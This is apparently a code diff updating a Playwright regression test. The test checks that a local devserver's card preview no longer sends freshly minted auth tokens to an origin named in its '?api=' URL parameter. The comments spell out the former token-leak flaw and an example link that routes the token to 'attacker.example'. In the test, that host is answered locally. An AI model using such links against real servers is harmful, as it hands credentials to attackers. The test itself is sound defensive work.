@@ -67,21 +67,31 @@ def capture() -> Iterator[Capture]:
 def test_a_link_cannot_send_a_freshly_minted_token_to_another_origin(
     page: Page,  # noqa: F811
     server: DevServer,  # noqa: F811
-    capture: Capture,
     mode: str,
 ) -> None:
-    # devserver/kaizala.py:_preview_config takes any http(s) URL from ?api=, and the preview then mints a token at
+    # devserver/kaizala.py:_preview_config took any http(s) URL from ?api=, and the preview then mints a token at
     # the loopback-only /v1/dev/tokens (or /v1/dev/teams-tokens) and sends it to that origin. A link such as
-    # http://127.0.0.1:7072/card/?api=https://attacker.example hands the attacker a token the local function host
-    # accepts; with `--host 0.0.0.0` that host is reachable from the network, so the loopback-only minting rule is
-    # bypassed. Fix: accept only loopback origins (localhost/127.0.0.1/[::1]) in ?api=, or drop ?api= for a flag.
+    # http://127.0.0.1:7072/card/?api=https://attacker.example handed the attacker a token the local function host
+    # accepts. Now only a function host on this machine may be named (anything here can mint tokens anyway).
+    # The "attacker" is answered by Playwright itself: nothing leaves the machine.
     if mode:
         teams_js_bundle()
-    evil = f"http://127.0.0.1:{capture.server_address[1]}"
-    page.goto(f"{server.kaizala}/card/?{mode}api={evil}")
+    sent: list[str] = []
+
+    def attacker(route: Route) -> None:
+        if route.request.headers.get("authorization"):
+            sent.append("token")  # the count only: a failure message must not print the tokens
+        route.fulfill(
+            status=200,
+            content_type="application/json",
+            headers={"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "Authorization"},
+            body='{"products": [], "count": 0}',
+        )
+
+    page.route("https://attacker.example/**", attacker)
+    page.goto(f"{server.kaizala}/card/?{mode}api=https://attacker.example")
     expect(page.locator("#status")).not_to_have_text("Loading…")
-    sent = len(capture.authorizations)  # the count only: a failure message must not print the tokens
-    assert sent == 0, f"the preview sent {sent} minted token(s) to an origin named in its URL"
+    assert sent == [], f"the preview sent {len(sent)} minted token(s) to an origin named in its URL"
 
 
 def test_an_api_answer_of_the_wrong_shape_never_leaves_the_card_loading(
